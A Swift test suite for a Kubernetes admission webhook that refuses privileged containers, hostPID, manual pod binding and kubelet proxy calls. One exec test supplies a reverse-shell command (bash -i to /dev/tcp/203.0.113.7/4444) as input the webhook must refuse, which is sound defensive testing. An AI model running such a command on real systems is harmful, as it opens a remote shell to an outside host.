import Deployments
import Judge
import Testing

@Suite struct JudgedReviewTests {
    let webhook: WebhookUnderTest

    init() throws { webhook = try WebhookUnderTest("refuse-at: medium") }

    @Test func `a privileged container is refused with its field`() async throws {
        let answer = try await webhook.answer(Review(object: Review.pod("\(Review.plain),\(Review.privileged)")))
        #expect(!answer.isAllowed)
        #expect(answer.message.contains("spec.containers[1].securityContext.privileged: refused by the rule"))
        #expect(answer.message.contains("leave it out or set it to false"))
        let verdict = try #require(webhook.decisions.verdicts.first)
        #expect(verdict.outcome == .refused)
        #expect(answer.message.hasSuffix("decision \(verdict.id)"))
        #expect(verdict.deployments.map(\.event.dataset) == [.kubernetesAdmission, .kubernetesAdmission])
        #expect(verdict.deployments.allSatisfy { $0.actor.userName == "bob" && $0.placement.namespace == "shop" })
    }

    @Test func `only what an update changes is judged`() async throws {
        let old = Review.pod(Review.privileged)
        func update(_ object: String, subresource: String? = nil) async throws -> Bool {
            try await webhook.answer(
                Review(operation: "UPDATE", subresource: subresource, object: object, oldObject: old)
            ).isAllowed
        }
        #expect(try await update(Review.pod(Review.privileged, metadata: #","labels":{"a":"b"}"#)))
        #expect(try await update(Review.pod(Review.privileged, metadata: #","finalizers":[]"#)))
        #expect(try await update(Review.pod(Review.privileged), subresource: "status"))
        #expect(try await update(Review.pod(Review.privileged, more: #","terminationGracePeriodSeconds":1"#)))
        #expect(webhook.decisions.verdicts.isEmpty)
        #expect(try await update(Review.pod(Review.privileged.replacing("1.27", with: "1.28"))) == false)
        #expect(try await update(Review.pod(Review.privileged, more: #","hostPID":true"#)) == false)
        let second = Review.privileged.replacing(#""name":"web""#, with: #""name":"two""#)
        #expect(try await update(Review.pod("\(Review.privileged),\(second)")) == false)
        #expect(webhook.decisions.verdicts.last?.deployments.map(\.container.name) == ["two"])
    }

    @Test func `what goes and what only scales deploys nothing`() async throws {
        let old = Review.pod(Review.privileged)
        #expect(try await webhook.answer(Review(operation: "DELETE", oldObject: old)).isAllowed)
        #expect(try await webhook.answer(Review(operation: "DELETE", name: nil, oldObject: old)).isAllowed)
        let scale = #"{"kind":"Scale","apiVersion":"autoscaling/v1","spec":{"replicas":9}}"#
        let review = Review(
            operation: "UPDATE",
            group: "apps",
            kind: "Scale",
            resource: "deployments",
            subresource: "scale",
            object: scale,
            oldObject: scale
        )
        #expect(try await webhook.answer(review).isAllowed)
        #expect(webhook.decisions.verdicts.isEmpty)
    }

    @Test func `of ephemeral containers only the new are judged`() async throws {
        let first = #","ephemeralContainers":[{"name":"d1","image":"busybox:1","securityContext":{"privileged":true}}]"#
        let both = first.replacing("}}]", with: #"}},{"name":"d2","image":"busybox:1"}]"#)
        func debug(_ old: String, _ new: String) async throws -> ReviewAnswer {
            try await webhook.answer(
                Review(
                    operation: "UPDATE",
                    subresource: "ephemeralcontainers",
                    object: Review.pod(Review.privileged, more: new),
                    oldObject: Review.pod(Review.privileged, more: old)
                )
            )
        }
        #expect(try await debug(first, both).isAllowed)
        #expect(webhook.decisions.verdicts.last?.deployments.map(\.container.name) == ["d2"])
        let refused = try await debug("", first)
        #expect(!refused.isAllowed)
        #expect(refused.message.contains("spec.ephemeralContainers[0].securityContext.privileged"))
    }

    @Test func `exec and attach are judged by what they run`() async throws {
        func connect(_ part: String, _ options: String) async throws -> ReviewAnswer {
            try await webhook.answer(
                Review(operation: "CONNECT", kind: "PodExecOptions", subresource: part, object: options)
            )
        }
        #expect(try await connect("exec", #"{"container":"web","command":["ls","/app"]}"#).isAllowed)
        let shell = try await connect(
            "exec",
            #"{"container":"web","command":["bash","-c","bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"]}"#
        )
        #expect(!shell.isAllowed)
        #expect(shell.message.contains("command: refused by the rule"))
        #expect(try await connect("attach", #"{"container":"web","stdin":true}"#).isAllowed)
        #expect(
            webhook.decisions.verdicts.flatMap(\.deployments).map(\.event.action) == [.podExec, .podExec, .podAttach]
        )
        #expect(try await connect("portforward", "{}").isAllowed)
        #expect(webhook.decisions.verdicts.count == 3)
    }

    @Test func `a pod is bound by hand, a call of a kubelet is seen`() async throws {
        let binding =
            #"{"kind":"Binding","apiVersion":"v1","metadata":{"name":"web"},"target":{"kind":"Node","name":"n7"}}"#
        let bound = try await webhook.answer(Review(kind: "Binding", subresource: "binding", object: binding))
        #expect(bound.message.contains("tidewaiter refuses binding of pod 'web': target.name: refused by the rule "))
        _ = try await webhook.answer(
            Review(kind: "Binding", subresource: "binding", user: "system:kube-scheduler", object: binding)
        )
        let path = #"{"kind":"NodeProxyOptions","path":"/run/shop/toolbox/sh"}"#
        let called = try await webhook.answer(
            Review(
                operation: "CONNECT",
                kind: "NodeProxyOptions",
                resource: "nodes",
                subresource: "proxy",
                name: "n7",
                namespace: nil,
                object: path
            )
        )
        #expect(called.message.hasPrefix("tidewaiter refuses proxy of node 'n7': proxy: refused by the rule "))
        let deployments = webhook.decisions.verdicts.flatMap(\.deployments)
        #expect(deployments.map(\.event.action) == [.podBind, .podExec])
        #expect(deployments.first?.placement.nodeName == "n7")
        #expect(deployments.last?.placement.resourceType == "pod")
        #expect(deployments.last?.placement.resourceName == "toolbox")
        #expect(deployments.last?.container.name == "sh")
        #expect(deployments.last?.route == .kubeletAPI)
    }

    @Test(arguments: [
        ("serving.knative.dev", "services", "Service", false), ("", "services", "Service", true),
        ("batch.volcano.sh", "jobs", "Job", false), ("evil.example", "secrets", "Secret", false),
        ("evil.example", "nodes", "Node", false), ("", "configmaps", "ConfigMap", true),
    ])
    func `plural names and kinds count with their group`(
        group: String,
        resource: String,
        kind: String,
        isAllowed: Bool
    ) async throws {
        let version = group.isEmpty ? "v1" : "\(group)/v1"
        let template = #"{"template":{"spec":{"containers":[\#(Review.privileged)]}}}"#
        let inside = isAllowed ? #""data":\#(template)"# : #""spec":\#(template)"#
        let object = #"{"kind":"\#(kind)","apiVersion":"\#(version)","metadata":{"name":"web"},\#(inside)}"#
        let review = Review(group: group, kind: kind, resource: resource, object: object)
        #expect(try await webhook.answer(review).isAllowed == isAllowed)
    }

    @Test func `keys count in their case, and the last of two`() async throws {
        let other = #"{"name":"web","image":"nginx:1.27","securityContext":{"Privileged":true}}"#
        #expect(try await webhook.answer(Review(object: Review.pod(other))).isAllowed)
        let twice = #"{"name":"web","image":"nginx:1.27","securityContext":{"privileged":false,"privileged":true}}"#
        #expect(try await webhook.answer(Review(object: Review.pod(twice))).isAllowed == false)
    }

    @Test func `the owner of what a controller makes is named`() async throws {
        let owner = #","ownerReferences":[{"kind":"ReplicaSet","name":"web-5d4f8","controller":true}]"#
        let review = Review(
            user: "system:serviceaccount:kube-system:replicaset-controller",
            object: Review.pod(Review.privileged, metadata: owner)
        )
        let answer = try await webhook.answer(review)
        #expect(answer.message.hasPrefix("tidewaiter refuses pod 'web', made for replicaset 'web-5d4f8': "))
    }

    @Test func `an object that cannot be searched to its end is refused`() async throws {
        let many = (0..<1_001).map { #"{"name":"c\#($0)","image":"nginx:1.27"}"# }.joined(separator: ",")
        let pod = try await webhook.answer(Review(object: Review.pod(many)))
        #expect(pod.message.contains("deeper or holds more containers than are searched"))
        let deep =
            String(repeating: #"{"a":"#, count: 60) + #"{"containers":[\#(Review.privileged)]}"#
            + String(repeating: "}", count: 60)
        let custom = Review(group: "example.com", kind: "Thing", resource: "things", object: #"{"spec":\#(deep)}"#)
        #expect(try await webhook.answer(custom).isAllowed == false)
        let lenient = try WebhookUnderTest("on-failure: {others: pass}")
        #expect(try await lenient.answer(custom).isAllowed)
        #expect(try await lenient.answer(Review(object: Review.pod(many))).isAllowed == false)
    }

    @Test func `an object of three megabytes is judged`() async throws {
        let filler = String(repeating: "x", count: 3 << 20)
        let metadata = #","annotations":{"filler":"\#(filler)"}"#
        let old = Review.pod(Review.plain, metadata: metadata)
        let new = Review.pod(Review.privileged, metadata: metadata)
        #expect(try await webhook.answer(Review(operation: "UPDATE", object: old, oldObject: old)).isAllowed)
        #expect(try await webhook.answer(Review(operation: "UPDATE", object: new, oldObject: old)).isAllowed == false)
    }
}
